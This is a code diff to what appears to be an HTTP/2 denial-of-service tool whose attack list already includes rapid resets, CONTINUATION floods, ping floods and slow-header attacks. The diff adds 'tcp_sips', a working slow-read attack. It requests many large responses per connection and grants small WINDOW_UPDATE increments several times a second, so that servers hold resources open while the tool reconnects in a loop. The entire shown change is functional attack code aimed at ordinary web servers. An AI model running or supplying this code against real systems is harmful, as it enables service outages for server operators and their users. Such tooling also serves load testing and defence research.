@@ -11,7 +11,7 @@ from report import Report
 from wire import Target
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"
-HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
+HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
 
 # Connections at once of those who are slow.
@@ -140,4 +140,45 @@ def tcp_unread(target: Target, report: Report) -> Iterator[None]:
     return crowd(target, report, "http/1.1", get, b"")
 
 
-ATTACKS = (tcp_rapid_resets, tcp_continuations, tcp_pings, tcp_slow_heads, tcp_unread)
+# Responses at once of each connection that sips, and what it takes of each at a time.
+SIPPED, SIP = 20, 16 << 10
+
+
+def tcp_sips(target: Target, report: Report) -> Iterator[None]:
+    """Large responses whose windows open by a little several times a second, and all of that is read."""
+    section = head(target, "/long.mp4")
+    streams = range(1, 2 * SIPPED, 2)
+    start = PREFACE + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, section) for stream in streams)
+    more = struct.pack("!I", SIP)
+    update = frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", SIPPED * SIP)) + b"".join(
+        frame(WINDOW_UPDATE, 0, stream, more) for stream in streams
+    )
+    while True:
+        wire = connect(target, "h2")
+        report.add("connections")
+        try:
+            wire.sendall(start)
+            report.add("requests", SIPPED)
+            while True:
+                wire.settimeout(20)
+                wire.sendall(update)
+                report.add("sips")
+                deadline = time.monotonic() + 0.25
+                while (left := deadline - time.monotonic()) > 0:
+                    wire.settimeout(left)
+                    try:
+                        data = wire.recv(1 << 16)
+                    except (TimeoutError, ssl.SSLWantReadError):
+                        break
+                    if not data:
+                        raise ConnectionResetError
+                    report.add("bytes", len(data))
+                yield
+        except OSError:
+            report.add("closed")
+        finally:
+            wire.close()
+        yield
+
+
+ATTACKS = (tcp_rapid_resets, tcp_continuations, tcp_pings, tcp_slow_heads, tcp_unread, tcp_sips)
